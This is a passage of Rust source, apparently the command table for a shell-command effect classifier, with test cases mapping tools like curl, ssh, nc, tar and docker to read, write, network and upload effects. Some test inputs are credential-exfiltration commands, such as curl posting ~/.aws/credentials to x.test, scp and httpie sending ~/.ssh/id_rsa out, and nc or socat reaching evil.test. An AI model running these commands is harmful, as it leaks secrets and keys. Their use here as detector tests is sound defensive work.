            ("vim +10 a b", &["read:a", "write:a", "read:b", "write:b"]),
            ("nano ~/.bashrc", &["read:~/.bashrc", "write:~/.bashrc"]),
            ("code .", &["read:.", "write:."]),
            ("vim -u vimrc f", &["read:vimrc", "read:f", "write:f"]),
        ],
    ),
    entry(
        &["sudoedit"],
        role(Role::Edit),
        &[(
            "sudoedit /etc/hosts",
            &["read:/etc/hosts", "write:/etc/hosts"],
        )],
    ),
    entry(
        &["sudo", "doas"],
        Spec {
            long_val: SUDO_LONG_VAL,
            role: Role::Sudo,
            ..none(SUDO_SHORT_VAL)
        },
        &[
            (
                "sudo -e /etc/hosts",
                &["read:/etc/hosts", "write:/etc/hosts"],
            ),
            ("sudo -l", &["none"]),
            ("sudo cat /etc/shadow", &["read:/etc/shadow"]),
        ],
    ),
    // ---- interpreters and shells ----
    entry(
        &["source", "."],
        Spec {
            style: Style::OptionsFirst,
            role: Role::Interpreter,
            ..BASE
        },
        &[
            ("source ~/.env", &["read:~/.env"]),
            (". ./venv/bin/activate", &["read:./venv/bin/activate"]),
        ],
    ),
    entry(
        &["python", "python2", "python3", "pypy", "pypy3"],
        Spec {
            style: Style::OptionsFirst,
            short_val: "cmWXQ",
            script_opts: &["-c", "-m"],
            role: Role::Interpreter,
            ..BASE
        },
        &[
            ("python3 x.py -o y", &["read:x.py"]),
            ("python3 -c 'print(1)' x.py", &["none"]),
            ("python -m http.server", &["none"]),
            (
                "python3 -c 'open(\"/etc/passwd\").read()'",
                &["read:/etc/passwd"],
            ),
            ("python2 a.py", &["read:a.py"]),
        ],
    ),
    entry(
        &["node", "nodejs"],
        Spec {
            style: Style::OptionsFirst,
            short_val: "epr",
            long_val: &["--eval", "--print", "--require", "--import", "--loader"],
            script_opts: &["-e", "--eval", "-p", "--print"],
            role: Role::Interpreter,
            ..BASE
        },
        &[
            ("node server.js --port 3000", &["read:server.js"]),
            ("node -e 'console.log(1)'", &["none"]),
            ("node -r ts-node/register a.ts", &["read:a.ts"]),
        ],
    ),
    entry(
        &["deno"],
        Spec {
            long_val: &[
                "--config",
                "--import-map",
                "--lock",
                "--cert",
                "--location",
                "--inspect",
                "--reload",
                "--env-file",
            ],
            read_opts: &["--config", "--import-map", "--cert", "--env-file"],
            role: Role::Runner,
            ..none("cr")
        },
        &[
            ("deno run --allow-net main.ts", &["read:main.ts"]),
            ("deno test", &["none"]),
            ("deno fmt", &["none"]),
        ],
    ),
    entry(
        &["bun"],
        Spec {
            long_val: &["--cwd", "--config", "--env-file", "--preload", "--filter"],
            read_opts: &["--config", "--env-file"],
            role: Role::Runner,
            ..none("cr")
        },
        &[
            ("bun run dev", &["none"]),
            ("bun index.ts", &["read:index.ts"]),
            ("bun run scripts/build.ts", &["read:scripts/build.ts"]),
            ("bun install", &["none"]),
        ],
    ),
    entry(
        &["perl"],
        Spec {
            style: Style::OptionsFirst,
            short_val: "eEIMm",
            short_opt: "iCdDlx0F",
            script_opts: &["-e", "-E"],
            in_place: &["-i"],
            role: Role::LineInterpreter,
            ..BASE
        },
        &[
            ("perl x.pl arg", &["read:x.pl"]),
            ("perl -pi -e 's/a/b/' f", &["read:f", "write:f"]),
            ("perl -ne 'print if /x/' a b", &["read:a", "read:b"]),
            ("perl -e 'print 1'", &["none"]),
        ],
    ),
    entry(
        &["ruby"],
        Spec {
            style: Style::OptionsFirst,
            short_val: "eEIrCF",
            short_opt: "ixW",
            script_opts: &["-e"],
            in_place: &["-i"],
            role: Role::LineInterpreter,
            ..BASE
        },
        &[
            ("ruby app.rb", &["read:app.rb"]),
            ("ruby -ne 'puts $_' f", &["read:f"]),
            ("ruby -e 'puts 1'", &["none"]),
        ],
    ),
    entry(
        &["php"],
        Spec {
            style: Style::OptionsFirst,
            short_val: "cdfrBREFzSt",
            read_opts: &["-f", "-c"],
            script_opts: &["-r", "-f", "-B", "-R", "-E", "-F", "-S"],
            role: Role::Interpreter,
            ..BASE
        },
        &[
            ("php artisan migrate", &["read:artisan"]),
            ("php -r 'echo 1;'", &["none"]),
            ("php -f x.php", &["read:x.php"]),
            ("php -S localhost:8000 -t public", &["none"]),
        ],
    ),
    entry(
        &["java"],
        Spec {
            style: Style::SingleDash,
            long_val: &[
                "-cp",
                "-classpath",
                "--class-path",
                "-jar",
                "-p",
                "--module-path",
                "-m",
                "--module",
                "--add-opens",
                "--add-exports",
                "--add-modules",
            ],
            read_opts: &["-jar"],
            role: Role::Java,
            ..BASE
        },
        &[
            ("java -jar app.jar --port 1", &["read:app.jar"]),
            ("java -cp lib/x.jar com.example.Main", &["none"]),
            ("java Hello.java", &["read:Hello.java"]),
        ],
    ),
    entry(
        &[
            "bash", "sh", "zsh", "dash", "ksh", "ash", "mksh", "yash", "fish",
        ],
        SHELL,
        &[
            ("bash ./s.sh arg", &["read:./s.sh"]),
            ("sh -x install.sh", &["read:install.sh"]),
            ("bash -c 'rm -rf build'", &["delete:build recursive"]),
            ("zsh -c 'cat ~/.zshrc'", &["read:~/.zshrc"]),
        ],
    ),
    // ---- archives and compression ----
    entry(
        &["tar", "bsdtar", "gtar"],
        Spec {
            long_val: &[
                "--file",
                "--directory",
                "--files-from",
                "--exclude-from",
                "--exclude",
                "--transform",
                "--owner",
                "--group",
                "--mode",
                "--use-compress-program",
                "--to-command",
            ],
            role: Role::Tar,
            ..read("fCTXbIKNgL")
        },
        &[
            ("tar czf - ~/.ssh", &["read:~/.ssh recursive"]),
            ("tar -xzf a.tgz -C out", &["read:a.tgz", "write:out"]),
            (
                "tar --create --file=a.tar src",
                &["write:a.tar", "read:src recursive"],
            ),
            ("tar tf a.tar", &["read:a.tar"]),
            ("tar xf a.tar", &["read:a.tar", "write:."]),
        ],
    ),
    entry(
        &["zip"],
        Spec {
            recursive: &["-r", "-R", "--recurse-paths"],
            role: Role::Zip,
            ..read("bntPOxi")
        },
        &[
            ("zip -r a.zip dir", &["write:a.zip", "read:dir recursive"]),
            ("zip a.zip f g", &["write:a.zip", "read:f", "read:g"]),
        ],
    ),
    entry(
        &["unzip"],
        Spec {
            role: Role::Unzip,
            ..read("dxP")
        },
        &[
            ("unzip a.zip -d out", &["read:a.zip", "write:out"]),
            ("unzip a.zip", &["read:a.zip", "write:."]),
            ("unzip -l a.zip", &["read:a.zip"]),
        ],
    ),
    entry(
        &["7z", "7za", "7zz", "7zr"],
        role(Role::SevenZip),
        &[
            ("7z a out.7z src", &["write:out.7z", "read:src recursive"]),
            ("7z x a.7z -oout", &["read:a.7z", "write:out"]),
            ("7z x a.7z", &["read:a.7z", "write:."]),
            ("7z l a.7z", &["read:a.7z"]),
        ],
    ),
    entry(
        &["gzip"],
        compress(".gz", Zmode::Compress, false),
        &[
            ("gzip f", &["read:f", "write:f.gz", "delete:f"]),
            ("gzip -k f", &["read:f", "write:f.gz"]),
            ("gzip -d f.gz", &["read:f.gz", "write:f", "delete:f.gz"]),
            ("gzip -c f > f.gz", &["read:f", "write:f.gz"]),
            ("gzip -l f.gz", &["read:f.gz"]),
        ],
    ),
    entry(
        &["gunzip"],
        compress(".gz", Zmode::Decompress, false),
        &[
            (
                "gunzip a.tar.gz",
                &["read:a.tar.gz", "write:a.tar", "delete:a.tar.gz"],
            ),
            ("gunzip -c a.gz", &["read:a.gz"]),
        ],
    ),
    entry(
        &["zcat", "gzcat"],
        compress(".gz", Zmode::Cat, true),
        &[
            ("zcat a.gz", &["read:a.gz"]),
            (
                "zcat a.gz b.gz > ab",
                &["read:a.gz", "read:b.gz", "write:ab"],
            ),
        ],
    ),
    entry(
        &["bzip2"],
        compress(".bz2", Zmode::Compress, false),
        &[
            ("bzip2 f", &["read:f", "write:f.bz2", "delete:f"]),
            ("bzip2 -dk f.bz2", &["read:f.bz2", "write:f"]),
        ],
    ),
    entry(
        &["bunzip2"],
        compress(".bz2", Zmode::Decompress, false),
        &[("bunzip2 f.bz2", &["read:f.bz2", "write:f", "delete:f.bz2"])],
    ),
    entry(
        &["bzcat"],
        compress(".bz2", Zmode::Cat, true),
        &[("bzcat f.bz2", &["read:f.bz2"])],
    ),
    entry(
        &["xz", "lzma"],
        compress(".xz", Zmode::Compress, false),
        &[
            ("xz -T0 f", &["read:f", "write:f.xz", "delete:f"]),
            ("xz -d f.xz", &["read:f.xz", "write:f", "delete:f.xz"]),
        ],
    ),
    entry(
        &["unxz"],
        compress(".xz", Zmode::Decompress, false),
        &[("unxz f.xz", &["read:f.xz", "write:f", "delete:f.xz"])],
    ),
    entry(
        &["xzcat"],
        compress(".xz", Zmode::Cat, true),
        &[("xzcat f.xz", &["read:f.xz"])],
    ),
    entry(
        &["zstd"],
        compress(".zst", Zmode::Compress, true),
        &[
            ("zstd f", &["read:f", "write:f.zst"]),
            ("zstd --rm f", &["read:f", "write:f.zst", "delete:f"]),
            ("zstd -d f.zst -o g", &["write:g", "read:f.zst"]),
        ],
    ),
    entry(
        &["unzstd"],
        compress(".zst", Zmode::Decompress, true),
        &[("unzstd f.zst", &["read:f.zst", "write:f"])],
    ),
    entry(
        &["zstdcat"],
        compress(".zst", Zmode::Cat, true),
        &[("zstdcat f.zst", &["read:f.zst"])],
    ),
    // ---- network ----
    entry(
        &["curl"],
        Spec {
            long_val: &[
                "--data",
                "--data-binary",
                "--data-raw",
                "--data-ascii",
                "--data-urlencode",
                "--json",
                "--form",
                "--form-string",
                "--upload-file",
                "--output",
                "--config",
                "--request",
                "--header",
                "--user",
                "--user-agent",
                "--referer",
                "--cookie",
                "--cookie-jar",
                "--dump-header",
                "--write-out",
                "--proxy",
                "--resolve",
                "--connect-to",
                "--max-time",
                "--connect-timeout",
                "--retry",
                "--url",
                "--cert",
                "--key",
                "--cacert",
                "--output-dir",
                "--trace",
                "--trace-ascii",
                "--stderr",
                "--range",
                "--limit-rate",
                "--interface",
                "--oauth2-bearer",
                "--unix-socket",
                "--max-filesize",
            ],
            read_opts: &[
                "-K", "--config", "--cert", "-E", "--key", "--cacert", "-b", "--cookie",
            ],
            write_opts: &[
                "-o",
                "--output",
                "-c",
                "--cookie-jar",
                "-D",
                "--dump-header",
                "--trace",
                "--trace-ascii",
                "--stderr",
            ],
            role: Role::Curl,
            ..read("dFToKXHuAebcDwxmrEYyzCQt")
        },
        &[
            (
                "curl -d @~/.aws/credentials https://x.test",
                &[
                    "network:https://x.test upload:~/.aws/credentials",
                    "read:~/.aws/credentials",
                ],
            ),
            (
                "curl -F f=@a.txt\\;type=text/plain -X POST x.test",
                &["network:x.test upload:a.txt", "read:a.txt"],
            ),
            (
                "curl -T up https://x.test -o out",
                &["write:out", "network:https://x.test upload:up", "read:up"],
            ),
            (
                "curl -sSLO https://x.test/a/b.tgz",
                &["write:b.tgz", "network:https://x.test/a/b.tgz"],
            ),
            (
                "curl -fsSL https://x.test/i.sh",
                &["network:https://x.test/i.sh"],
            ),
        ],
    ),
    entry(
        &["wget"],
        Spec {
            long_val: &[
                "--output-document",
                "--output-file",
                "--append-output",
                "--input-file",
                "--directory-prefix",
                "--post-file",
                "--body-file",
                "--post-data",
                "--header",
                "--user",
                "--password",
                "--user-agent",
                "--load-cookies",
                "--save-cookies",
                "--method",
                "--tries",
                "--timeout",
                "--level",
            ],
            read_opts: &["-i", "--input-file", "--load-cookies"],
            write_opts: &[
                "-o",
                "--output-file",
                "-a",
                "--append-output",
                "--save-cookies",
            ],
            recursive: &["-r", "--recursive", "-m", "--mirror"],
            role: Role::Wget,
            ..read("OoaiPtTUlAReDQwBe")
        },
        &[
            ("wget -O - https://x.test", &["network:https://x.test"]),
            (
                "wget --post-file=f https://x.test -O o",
                &["write:o", "network:https://x.test upload:f", "read:f"],
            ),
            (
                "wget https://x.test/a.tgz",
                &["write:a.tgz", "network:https://x.test/a.tgz"],
            ),
            (
                "wget -P dl https://x.test/a",
                &["write:dl", "network:https://x.test/a"],
            ),
        ],
    ),
    entry(
        &["http", "https", "xh", "xhs"],
        Spec {
            long_val: &[
                "--auth",
                "--auth-type",
                "--output",
                "--session",
                "--session-read-only",
                "--verify",
                "--cert",
                "--cert-key",
                "--proxy",
                "--timeout",
                "--pretty",
                "--style",
                "--print",
                "--format-options",
                "--max-redirects",
                "--default-scheme",
                "--raw",
            ],
            read_opts: &["--cert", "--cert-key", "--session-read-only"],
            write_opts: &["-o", "--output"],
            role: Role::Httpie,
            ..none("aAopsP")
        },
        &[
            (
                "http GET https://x.test/api",
                &["network:https://x.test/api"],
            ),
            (
                "http -f POST x.test/up file@~/.ssh/id_rsa",
                &[
                    "network:x.test/up upload:~/.ssh/id_rsa",
                    "read:~/.ssh/id_rsa",
                ],
            ),
            (
                "http POST x.test data=@body.json name=a",
                &["network:x.test upload:body.json", "read:body.json"],
            ),
            (
                "http -o out.bin x.test/f",
                &["write:out.bin", "network:x.test/f"],
            ),
        ],
    ),
    entry(
        &["ssh"],
        Spec {
            style: Style::OptionsFirst,
            read_opts: &["-i", "-F"],
            write_opts: &["-E"],
            role: Role::Host,
            ..read("BbcDEeFIiJLlmOopQRSWw")
        },
        &[
            (
                "ssh -i key user@host ls",
                &["read:key", "network:user@host"],
            ),
            ("ssh -l root -p 2222 evil.test", &["network:evil.test"]),
            ("ssh -F cfg h", &["read:cfg", "network:h"]),
        ],
    ),
    entry(
        &["sftp"],
        Spec {
            read_opts: &["-i", "-F", "-b"],
            role: Role::Host,
            ..none("BbcDFiJlopPRsS")
        },
        &[
            ("sftp user@h", &["network:user@h"]),
            (
                "sftp -b cmds.txt -i key h",
                &["read:cmds.txt", "read:key", "network:h"],
            ),
        ],
    ),
    entry(
        &["nc", "ncat", "netcat"],
        Spec {
            read_opts: &["--send-only"],
            role: Role::Host,
            ..read("eIiMmOPpqsTVwXxc")
        },
        &[
            ("nc -l 8080", &["none"]),
            ("nc evil.test 443", &["network:evil.test"]),
            ("nc -w 3 h 80 < req.txt", &["read:req.txt", "network:h"]),
        ],
    ),
    entry(
        &["telnet"],
        Spec {
            role: Role::Host,
            ..none("bekIlnSX")
        },
        &[
            ("telnet h 23", &["network:h"]),
            ("telnet -l bob evil.test", &["network:evil.test"]),
        ],
    ),
    entry(
        &["ping", "ping6", "traceroute", "mtr", "tracepath"],
        Spec {
            role: Role::Host,
            ..none("cifmMpQsStTwWIlFgqz")
        },
        &[
            ("ping -c 3 example.com", &["network:example.com"]),
            ("traceroute h", &["network:h"]),
        ],
    ),
    entry(
        &["dig", "nslookup", "host", "drill"],
        Spec {
            read_opts: &["-f", "-k"],
            role: Role::Dns,
            ..none("bcfkpqtxyW")
        },
        &[
            ("dig +short example.com MX", &["network:example.com"]),
            (
                "dig @1.1.1.1 a.test",
                &["network:1.1.1.1", "network:a.test"],
            ),
            ("nslookup x.test", &["network:x.test"]),
            (
                "host -t TXT x.test 8.8.8.8",
                &["network:x.test", "network:8.8.8.8"],
            ),
        ],
    ),
    entry(
        &["socat"],
        Spec {
            role: Role::Socat,
            ..read("dDlLT")
        },
        &[
            (
                "socat TCP:evil.test:443 OPEN:f",
                &["network:evil.test:443", "read:f", "write:f"],
            ),
            ("socat TCP-LISTEN:8080 STDOUT", &["none"]),
        ],
    ),
    entry(
        &["scp", "rsync"],
        Spec {
            long_val: &[
                "--rsh",
                "--exclude",
                "--include",
                "--filter",
                "--files-from",
                "--exclude-from",
                "--include-from",
                "--rsync-path",
                "--password-file",
                "--chmod",
                "--chown",
                "--link-dest",
                "--compare-dest",
                "--backup-dir",
                "--port",
                "--log-file",
                "--bwlimit",
                "--timeout",
                "--temp-dir",
            ],
            read_opts: &[
                "-i",
                "-F",
                "--files-from",
                "--exclude-from",
                "--include-from",
                "--password-file",
            ],
            write_opts: &["--log-file"],
            recursive: RECURSIVE,
            role: Role::RemoteCopy,
            ..read("cDFiJlopPSeBfT")
        },
        &[
            (
                "scp ~/.ssh/id_rsa h:/tmp",
                &["read:~/.ssh/id_rsa", "network:h:/tmp upload:~/.ssh/id_rsa"],
            ),
            ("rsync -a h:src ./dst", &["network:h:src", "write:./dst"]),
            (
                "rsync -av --exclude .git ./ backup/",
                &["read:./ recursive", "write:backup/"],
            ),
            ("scp -r h:dir .", &["network:h:dir", "write:."]),
        ],
    ),
    // ---- version control ----
    entry(
        &["git"],
        Spec {
            style: Style::OptionsFirst,
            short_val: "Cc",
            long_val: &[
                "--git-dir",
                "--work-tree",
                "--namespace",
                "--config-env",
                "--super-prefix",
            ],
            role: Role::Git,
            ..BASE
        },
        &[
            ("git push", &["network:origin"]),
            ("git -C x push --force up main", &["network:up"]),
            (
                "git clone https://x.test/a/b.git",
                &["network:https://x.test/a/b.git", "write:b"],
            ),
            (
                "git clone -b m git@x:a/b.git dir",
                &["network:git@x:a/b.git", "write:dir"],
            ),
            ("git status", &["none"]),
            ("git diff > p.diff", &["write:p.diff"]),
        ],
    ),
    entry(
        &["gh"],
        Spec {
            long_val: &[
                "--repo",
                "--hostname",
                "--body",
                "--body-file",
                "--title",
                "--jq",
                "--template",
                "--input",
                "--method",
                "--field",
                "--raw-field",
                "--header",
                "--dir",
                "--pattern",
                "--output",
                "--label",
                "--assignee",
                "--base",
                "--head",
                "--json",
                "--limit",
                "--state",
                "--branch",
                "--workflow",
                "--desc",
                "--filename",
                "--reviewer",
                "--milestone",
                "--notes",
                "--notes-file",
                "--clobber",
            ],
            role: Role::Gh,
            ..none("RFftqXHDpOlaBLsbwdrmn")
        },
        &[
            ("gh pr list", &["network:github.com"]),
            (
                "gh gist create ~/.ssh/id_rsa",
                &[
                    "network:github.com upload:~/.ssh/id_rsa",
                    "read:~/.ssh/id_rsa",
                ],
            ),
            (
                "gh release upload v1 dist/a.tgz",
                &["network:github.com upload:dist/a.tgz", "read:dist/a.tgz"],
            ),
            (
                "gh pr create -t T -F notes.md",
                &["network:github.com upload:notes.md", "read:notes.md"],
            ),
            (
                "gh api -F body=@msg.txt repos/o/r/issues",
                &["network:github.com upload:msg.txt", "read:msg.txt"],
            ),
            ("gh repo clone o/r", &["network:github.com", "write:r"]),
            ("gh --version", &["none"]),
        ],
    ),
    // ---- package managers ----
    entry(
        &["npm", "pnpm", "yarn", "npx", "pnpx", "corepack"],
        Spec {
            long_val: &[
                "--prefix",
                "--registry",
                "--workspace",
                "--filter",
                "--cwd",
                "--tag",
                "--package",
            ],
            ..none("wC")
        },
        &[
            ("npm install", &["none"]),
            ("npm run build", &["none"]),
            ("npx tsc -p .", &["none"]),
            ("yarn add -D x > log", &["write:log"]),
        ],
    ),
    entry(
        &["pip", "pip3"],
        Spec {
            long_val: &[
                "--requirement",
                "--constraint",
                "--editable",
                "--index-url",
                "--extra-index-url",
                "--target",
                "--dest",
                "--log",
                "--prefix",
                "--root",
                "--find-links",
                "--python",
                "--cache-dir",
            ],
            read_opts: &["-r", "--requirement", "-c", "--constraint"],
            write_opts: &["-t", "--target", "-d", "--dest", "--log"],
            ..none("rceitdf")
        },
        &[
            (
                "pip install -r requirements.txt",
                &["read:requirements.txt"],
            ),
            ("pip3 install requests", &["none"]),
            ("pip download -d wheels x", &["write:wheels"]),
            ("pip freeze > requirements.txt", &["write:requirements.txt"]),
        ],
    ),
    entry(
        &[
            "pipx", "rustup", "gem", "bundle", "bundler", "composer", "apt", "apt-get", "brew",
            "dnf", "yum", "apk", "pacman", "port", "conda", "mamba",
        ],
        Spec {
            long_val: &["--gemfile", "--working-dir", "--python"],
            read_opts: &["--gemfile"],
            ..BASE
        },
        &[
            ("apt-get install -y curl", &["none"]),
            ("brew install jq", &["none"]),
            ("pipx install ruff", &["none"]),
            ("bundle exec rake", &["none"]),
            ("bundle install --gemfile=G", &["read:G"]),
            ("rustup default stable", &["none"]),
            ("gem install rails", &["none"]),
            ("composer install", &["none"]),
            ("apt update", &["none"]),
            ("dnf install x", &["none"]),
            ("yum install x", &["none"]),
            ("apk add x", &["none"]),
        ],
    ),
    entry(
        &["uv", "uvx", "poetry", "pdm", "hatch"],
        Spec {
            long_val: &[
                "--requirement",
                "--constraint",
                "--with",
                "--python",
                "--project",
                "--directory",
                "--env-file",
                "--from",
                "--index-url",
                "--extra",
                "--group",
                "--package",
            ],
            read_opts: &["-r", "--requirement", "-c", "--constraint", "--env-file"],
            role: Role::Runner,
            ..none("rcpw")
        },
        &[
            ("uv run script.py", &["read:script.py"]),
            ("uv pip install -r req.txt", &["read:req.txt"]),
            ("uv sync", &["none"]),
            ("uvx ruff check", &["none"]),
            ("poetry run pytest", &["none"]),
        ],
    ),
    entry(
        &["cargo"],
        Spec {
            long_val: &[
                "--manifest-path",
                "--target-dir",
                "--package",
                "--bin",
                "--example",
                "--test",
                "--bench",
                "--features",
                "--target",
                "--jobs",
                "--profile",
                "--config",
                "--color",
                "--message-format",
                "--exclude",
                "--lockfile-path",
            ],
            read_opts: &["--manifest-path"],
            ..none("pjFZ")
        },
        &[
            ("cargo build --release", &["none"]),
            ("cargo test -p x", &["none"]),
            (
                "cargo check --manifest-path a/Cargo.toml",
                &["read:a/Cargo.toml"],
            ),
        ],
    ),
    entry(
        &["go"],
        Spec {
            style: Style::SingleDash,
            long_val: &[
                "-o",
                "-C",
                "-tags",
                "-ldflags",
                "-gcflags",
                "-run",
                "-bench",
                "-count",
                "-timeout",
                "-p",
                "-mod",
                "-modfile",
                "-coverprofile",
                "-exec",
            ],
            read_opts: &["-modfile"],
            write_opts: &["-o", "-coverprofile"],
            role: Role::Runner,
            ..BASE
        },
        &[
            ("go run main.go", &["read:main.go"]),
            ("go build -o bin/app ./cmd/app", &["write:bin/app"]),
            ("go test ./...", &["none"]),
            ("go mod tidy", &["none"]),
        ],
    ),
    entry(
        &["mvn", "mvnw"],
        Spec {
            long_val: &[
                "--file",
                "--settings",
                "--global-settings",
                "--log-file",
                "--projects",
                "--activate-profiles",
                "--threads",
            ],
            read_opts: &["-f", "--file", "-s", "--settings", "--global-settings"],
            write_opts: &["-l", "--log-file"],
            ..none("fsDPlTt")
        },
        &[
            ("mvn -q package", &["none"]),
            (
                "mvn -f sub/pom.xml -s s.xml test",
                &["read:sub/pom.xml", "read:s.xml"],
            ),
        ],
    ),
    entry(
        &["gradle", "gradlew"],
        Spec {
            long_val: &[
                "--build-file",
                "--settings-file",
                "--init-script",
                "--project-dir",
                "--exclude-task",
                "--max-workers",
                "--gradle-user-home",
            ],
            read_opts: &[
                "-b",
                "--build-file",
                "-c",
                "--settings-file",
                "-I",
                "--init-script",
            ],
            ..none("bcIpxgDP")
        },
        &[
            ("gradle build", &["none"]),
            ("gradle -I init.gradle test", &["read:init.gradle"]),
        ],
    ),
    // ---- build and test tools ----
    entry(
        &["make", "gmake"],
        Spec {
            short_opt: "jl",
            long_val: &[
                "--directory",
                "--file",
                "--makefile",
                "--include-dir",
                "--old-file",
                "--assume-old",
                "--what-if",
                "--new-file",
                "--assume-new",
                "--eval",
            ],
            read_opts: &["-f", "--file", "--makefile"],
            ..none("CfIoW")
        },
        &[
            ("make -j4 test", &["none"]),
            ("make -f build.mk all", &["read:build.mk"]),
            ("make -C sub install", &["none"]),
        ],
    ),
    entry(
        &["cmake"],
        Spec {
            long_val: &[
                "--build",
                "--install",
                "--prefix",
                "--target",
                "--config",
                "--preset",
                "--parallel",
                "--toolchain",
                "--install-prefix",
            ],
            read_opts: &["-S", "-P", "-C", "--toolchain"],
            write_opts: &["-B", "--build", "--prefix", "--install-prefix"],
            role: Role::Read,
            ..none("SBDGCPTAUj")
        },
        &[
            ("cmake -S . -B build", &["read:.", "write:build"]),
            ("cmake --build build -j 8", &["write:build"]),
            ("cmake ..", &["read:.."]),
        ],
    ),
    entry(
        &["ninja"],
        Spec {
            read_opts: &["-f"],
            ..none("Cfjkltdw")
        },
        &[
            ("ninja -C build", &["none"]),
            ("ninja -f b.ninja all", &["read:b.ninja"]),
        ],
    ),
    entry(
        &["gcc", "g++", "cc", "c++", "clang", "clang++"],
        Spec {
            write_opts: &["-o"],
            role: Role::Compiler,
            ..none("oIDLlUxTBu")
        },
        &[
            (
                "gcc -O2 -o app main.c util.c",
                &["write:app", "read:main.c", "read:util.c"],
            ),
            ("gcc -c foo.c", &["read:foo.c", "write:foo.o"]),
            ("cc main.c", &["read:main.c", "write:a.out"]),
            (
                "clang++ -std=c++20 -Iinc -o t t.cpp",
                &["write:t", "read:t.cpp"],
            ),
        ],
    ),
    entry(
        &["rustc"],
        Spec {
            long_val: &[
                "--out-dir",
                "--crate-type",
                "--crate-name",
                "--edition",
                "--emit",
                "--target",
                "--cfg",
                "--extern",
                "--cap-lints",
                "--explain",
                "--print",
                "--sysroot",
                "--error-format",
            ],
            write_opts: &["-o", "--out-dir"],
            role: Role::Compiler,
            ..none("oLlCWADF")
        },
        &[
            ("rustc main.rs", &["read:main.rs", "write:main"]),
            ("rustc -O -o hi hi.rs", &["write:hi", "read:hi.rs"]),
        ],
    ),
    entry(
        &["tsc"],
        Spec {
            long_val: &[
                "--project",
                "--outDir",
                "--outFile",
                "--declarationDir",
                "--target",
                "--module",
                "--lib",
                "--jsx",
                "--rootDir",
                "--moduleResolution",
            ],
            read_opts: &["-p", "--project"],
            write_opts: &["--outDir", "--outFile", "--declarationDir"],
            ..read("pt")
        },
        &[
            ("tsc -p tsconfig.json", &["read:tsconfig.json"]),
            ("tsc --outDir dist a.ts", &["write:dist", "read:a.ts"]),
            ("tsc --noEmit", &["none"]),
        ],
    ),
    entry(
        &["eslint"],
        Spec {
            long_val: &[
                "--config",
                "--ext",
                "--output-file",
                "--format",
                "--rule",
                "--ignore-path",
                "--ignore-pattern",
                "--resolve-plugins-relative-to",
                "--max-warnings",
                "--cache-location",
                "--parser",
            ],
            read_opts: &["-c", "--config", "--ignore-path"],
            write_opts: &["-o", "--output-file", "--cache-location"],
            in_place: &["--fix"],
            role: Role::ReadTree,
            ..none("cof")
        },
        &[
            ("eslint src", &["read:src recursive"]),
            (
                "eslint --fix src/a.ts",
                &["read:src/a.ts recursive", "write:src/a.ts"],
            ),
            ("eslint -o r.txt .", &["write:r.txt", "read:. recursive"]),
        ],
    ),
    entry(
        &["prettier"],
        Spec {
            long_val: &[
                "--config",
                "--ignore-path",
                "--plugin",
                "--parser",
                "--log-level",
                "--cache-location",
                "--tab-width",
                "--print-width",
                "--trailing-comma",
                "--end-of-line",
            ],
            read_opts: &["--config", "--ignore-path"],
            in_place: &["--write", "-w"],
            role: Role::ReadTree,
            ..BASE
        },
        &[
            ("prettier --write .", &["read:. recursive", "write:."]),
            ("prettier --check src", &["read:src recursive"]),
        ],
    ),
    entry(
        &["pytest", "py.test", "mypy", "flake8", "pylint"],
        Spec {
            long_val: &[
                "--config-file",
                "--rootdir",
                "--basetemp",
                "--junitxml",
                "--junit-xml",
                "--cov",
                "--cov-report",
                "--deselect",
                "--ignore",
                "--log-file",
                "--maxfail",
                "--durations",
                "--tb",
                "--html",
                "--rcfile",
                "--output",
                "--cache-dir",
            ],
            read_opts: &["-c", "--config-file", "--rcfile"],
            write_opts: &["--junitxml", "--junit-xml", "--log-file", "--html"],
            role: Role::ReadTree,
            ..none("kmpcornW")
        },
        &[
            ("pytest", &["none"]),
            ("pytest -k login tests/", &["read:tests/ recursive"]),
            (
                "pytest tests/test_a.py::test_x --junitxml=r.xml",
                &["read:tests/test_a.py recursive", "write:r.xml"],
            ),
            ("mypy src", &["read:src recursive"]),
        ],
    ),
    entry(
        &["jest", "vitest", "mocha"],
        Spec {
            long_val: &[
                "--config",
                "--outputFile",
                "--testNamePattern",
                "--reporter",
                "--coverageDirectory",
                "--root",
                "--dir",
                "--project",
                "--shard",
                "--maxWorkers",
            ],
            read_opts: &["-c", "--config"],
            write_opts: &["--outputFile", "--coverageDirectory"],
            ..none("ctw")
        },
        &[
            ("jest auth", &["none"]),
            ("vitest run -c v.config.ts", &["read:v.config.ts"]),
            ("jest --outputFile=r.json", &["write:r.json"]),
        ],
    ),
    // ---- containers and cloud ----
    entry(
        &["docker", "podman", "nerdctl"],
        Spec {
            style: Style::OptionsFirst,
            long_val: &["--context", "--host", "--config", "--log-level"],
            role: Role::Container,
            ..none("Hc")
        },
        &[
            ("docker cp c:/etc/passwd ./p", &["write:./p"]),
            ("docker cp ./app c:/srv", &["read:./app recursive"]),
            (
                "docker run --rm -v ~/.ssh:/root/.ssh img",
                &["read:~/.ssh recursive", "write:~/.ssh"],
            ),
            (
                "docker run -v data:/data --env-file .env img",
                &["read:.env"],
            ),
            (
                "docker build -t x -f Dockerfile.dev .",
                &["read:Dockerfile.dev", "read:. recursive"],
            ),
            ("docker save -o img.tar x", &["write:img.tar"]),
            ("docker ps", &["none"]),
            ("podman load -i img.tar", &["read:img.tar"]),
        ],
    ),
    entry(
        &["kubectl", "oc"],
        Spec {
            style: Style::OptionsFirst,
            long_val: &[
                "--kubeconfig",
                "--context",
                "--namespace",
                "--cluster",
                "--user",
                "--server",
            ],
            read_opts: &["--kubeconfig"],
            role: Role::Container,
            ..none("ns")
        },
        &[
            ("kubectl get pods -n x", &["none"]),
            ("kubectl apply -f deploy.yaml", &["read:deploy.yaml"]),
            (
                "kubectl apply -f https://x.test/m.yaml",
                &["network:https://x.test/m.yaml"],
            ),
            ("kubectl cp ns/pod:/etc/passwd ./p", &["write:./p"]),
            (
                "kubectl --kubeconfig k.yaml delete -f k8s/",
                &["read:k.yaml", "read:k8s/ recursive"],
            ),
        ],
    ),
    entry(
        &["helm"],
        Spec {
            long_val: &[
                "--values",
                "--set",
                "--set-file",
                "--kubeconfig",
                "--namespace",
                "--version",
                "--repo",
                "--output-dir",
                "--kube-context",
            ],
            read_opts: &["-f", "--values", "--kubeconfig"],
            write_opts: &["--output-dir"],
            ..none("fno")
        },
        &[
            (
                "helm install r ./chart -f values.yaml",
                &["read:values.yaml"],
            ),
            ("helm list", &["none"]),
        ],
    ),
    entry(
        &["terraform", "tofu"],
        Spec {
            style: Style::SingleDash,
            long_val: &[
                "-var-file",
                "-var",
